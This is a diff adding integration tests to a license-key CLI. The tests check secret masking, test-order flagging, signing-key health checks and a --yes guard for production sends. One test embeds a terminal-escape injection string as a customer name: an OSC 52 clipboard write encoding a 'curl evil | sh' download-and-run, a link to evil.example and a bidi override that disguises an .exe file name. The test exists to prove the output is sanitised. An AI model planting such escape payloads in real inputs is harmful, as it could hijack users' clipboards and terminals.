@@ -3,7 +3,7 @@ import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
 import { createServer } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import { readDevSecrets } from '../../../lib/local/devSecrets';
+import { devSecretsPath, formatEnvFile, readDevSecrets } from '../../../lib/local/devSecrets';
 import { startLocalStack, type LocalStack } from '../../../lib/local/stack';
 import { startFakeAws, type FakeAws } from './fakeAws';
 import { buildCli, cli } from './support';
@@ -63,8 +63,25 @@ describe('keysmith CLI against the local stack', () => {
       expect(r.code).toBe(0);
       const body = r.json<Record<string, unknown>>();
       expect(Object.keys(body)).toEqual(expect.arrayContaining(['provider', 'url', 'status', 'ok', 'body', 'orderId', 'eventIds', 'ms', 'deliveryId']));
-      expect(body).toMatchObject({ provider: 'selldone', status: 200, ok: true });
-      // The path secret is in the URL it posted to; it is never in the delivery log's route.
+      expect(body).toMatchObject({ provider: 'selldone', status: 200, ok: true, url: expect.stringMatching(/\/webhooks\/selldone\/\*\*\*$/) });
+    });
+
+    it('never prints the Selldone path secret, in text or JSON', async () => {
+      const secret = readDevSecrets(stateDir)!.KEYSMITH_SELLDONE_PATH_SECRET!;
+      const [json, human] = await Promise.all([run('send', 'selldone', '--json'), run('send', 'selldone')]);
+      expect([json.code, human.code]).toEqual([0, 0]);
+      expect(human.stdout).toMatch(/POST http:\/\/127\.0\.0\.1:\d+\/webhooks\/selldone\/\*\*\* → 200/);
+      for (const r of [json, human]) expect(r.stdout + r.stderr).not.toContain(secret);
+    });
+
+    it('sends test orders for example.com customers, flagged where the provider has a test flag', async () => {
+      const [fs, hotmart] = await Promise.all([run('send', 'fastspring', '--json'), run('send', 'hotmart', '--json')]);
+      expect(fs.json()).toMatchObject({ status: 200, testOrder: true });
+      expect(hotmart.json()).toMatchObject({ status: 200, testOrder: false });
+      await stack.poller.drain(20_000);
+      const rows = (await run('licenses', '--order', fs.json<{ orderId: string }>().orderId, '--json')).json<{ customer: string; live: boolean }[]>();
+      expect(rows.length).toBeGreaterThan(0);
+      for (const row of rows) expect(row).toMatchObject({ live: false, customer: expect.stringMatching(/@example\.com$/) });
     });
 
     it('prints what it did for people, and refuses unknown providers with exit 2', async () => {
@@ -101,6 +118,35 @@ describe('keysmith CLI against the local stack', () => {
   });
 
   describe('show', () => {
+    it('prints a customer name full of terminal escapes without a single control character', async () => {
+      // Prepare: a signed FastSpring order whose customer name carries an OSC 52 clipboard
+      // write, a screen clear, an OSC 8 link, a C1 CSI and a bidi override.
+      const evil = `Eve\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007\u001b[2J\u001b]8;;https://evil.example/\u001b\\link\u001b]8;;\u001b\\\u009b2J\u202Egpj.exe`;
+      const payload = JSON.parse(readFileSync(join(__dirname, '../../fixtures/providers/fastspring-order-completed.json'), 'utf8')) as { events: { id: string; data: { id: string; order: string; account: { contact: { first: string; email: string } }; customer?: { first: string } } }[] };
+      const evilOrder = `evil-${Date.now()}`;
+      const event = payload.events[0]!;
+      event.id = `evt-${evilOrder}`;
+      event.data.id = evilOrder;
+      event.data.order = evilOrder;
+      event.data.account.contact.first = evil;
+      if (event.data.customer) event.data.customer.first = evil;
+      const file = join(stateDir, 'evil.json');
+      writeFileSync(file, JSON.stringify(payload));
+      expect((await run('send', 'fastspring', '--file', file)).code).toBe(0);
+      await stack.poller.drain(20_000);
+      const [row] = (await run('licenses', '--order', evilOrder, '--json')).json<Row[]>();
+
+      // Act
+      const [human, json, list] = await Promise.all([run('show', row!.licenseId), run('show', row!.licenseId, '--json'), run('licenses', '--order', evilOrder)]);
+      expect(list.stdout).toContain(row!.licenseId);
+
+      // Assess: the name is shown, its controls are not; JSON keeps the value, escaped.
+      expect(human.code).toBe(0);
+      expect(human.stdout).toMatch(/^customer {2}\S+@\S+ \(Evelinkgpj\.exe Doe\)$/m);
+      for (const r of [human, json, list]) expect(r.stdout).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/);
+      expect(json.json<{ entitlement: { customer: { name: string } } }>().entitlement.customer.name).toContain(evil);
+    });
+
     it('shows the license with history and the events applied, email status included', async () => {
       const [json, human] = await Promise.all([run('show', licenses[0]!.licenseId, '--json'), run('show', licenses[0]!.licenseId)]);
       expect(json.code).toBe(0);
@@ -255,15 +301,42 @@ describe('keysmith CLI against the local stack', () => {
         expect.arrayContaining([
           { check: 'secrets', status: 'ok', detail: 'KEYSMITH_FASTSPRING_SECRET set' },
           { check: 'dlq', status: 'ok', detail: 'the DLQ is empty' },
-          { check: 'ses sandbox', status: 'ok', detail: 'n/a (local)' },
+          { check: 'ses sandbox', status: 'skip', detail: 'n/a (local)' },
           // The example catalog licenses any product id: flagged, not fatal.
           { check: 'catalog', status: 'warn', detail: expect.stringMatching(/keysmith\.example\.json: this is the example catalog .*licenses ANY product id/) },
         ]),
       );
       expect(human.stdout).toMatch(/^✔ local stack/m);
       expect(human.stdout).toMatch(/healthy/);
+      // What does not apply is not ✔.
+      expect(human.stdout).toMatch(/^– ses sandbox\s+n\/a \(local\)/m);
+      expect(human.stdout).not.toMatch(/^✔.*n\/a/m);
+      // Keys are tried at their job.
+      expect(human.stdout).toMatch(/^✔ secrets\s+KEYSMITH_LICENSE_SIGNING_KEY signs a license and its public key verifies it/m);
       // Values are never printed.
       expect(human.stdout).not.toContain(stack.env.KEYSMITH_FASTSPRING_SECRET!);
+    });
+
+    it('fails, naming it, on a signing key that looks right but cannot sign', async () => {
+      // Prepare: the stack's signing key as a PEM with literal \r\n escapes (passes the format check).
+      const file = devSecretsPath(stateDir);
+      const original = readFileSync(file, 'utf8');
+      const values = readDevSecrets(stateDir)!;
+      const broken = values.KEYSMITH_LICENSE_SIGNING_KEY!.replace(/\\n/g, '\n').trim().split('\n').join('\\r\\n');
+      writeFileSync(file, formatEnvFile({ ...values, KEYSMITH_LICENSE_SIGNING_KEY: broken }));
+      expect(readDevSecrets(stateDir)!.KEYSMITH_LICENSE_SIGNING_KEY).toBe(broken);
+      try {
+        // Act
+        const r = await run('doctor');
+
+        // Assess
+        expect(r.code).toBe(1);
+        expect(r.stdout).toMatch(/^✘ secrets\s+KEYSMITH_LICENSE_SIGNING_KEY cannot sign a license/m);
+        expect(r.stdout).not.toMatch(/^healthy/m);
+        expect(r.stderr).toMatch(/KEYSMITH_LICENSE_SIGNING_KEY cannot sign/);
+      } finally {
+        writeFileSync(file, original);
+      }
     });
   });
 
@@ -379,8 +452,12 @@ describe('keysmith CLI against the local stack', () => {
       expect(licenseSecret.code).toBe(1);
       expect(aws.state.secret.KEYSMITH_LICENSE_SECRET).toBe(stack.env.KEYSMITH_LICENSE_SECRET);
 
+      // Production secrets, a real stack: without a terminal to ask on, only --yes sends.
+      const refused = await inAws(['send', 'fastspring', '--json'], undefined, { KEYSMITH_FASTSPRING_SECRET: undefined });
+      expect(refused.code).toBe(2);
+      expect(refused.stderr).toMatch(/--yes/);
       // The environment has no FastSpring secret: the signature can only come from the stack's secret.
-      const sent = await inAws(['send', 'fastspring', '--json'], undefined, { KEYSMITH_FASTSPRING_SECRET: undefined });
+      const sent = await inAws(['send', 'fastspring', '--json', '--yes'], undefined, { KEYSMITH_FASTSPRING_SECRET: undefined });
       expect(sent.code).toBe(0);
       expect(sent.json()).toMatchObject({ status: 200, url: `${stack.url}/webhooks/fastspring` });
     });
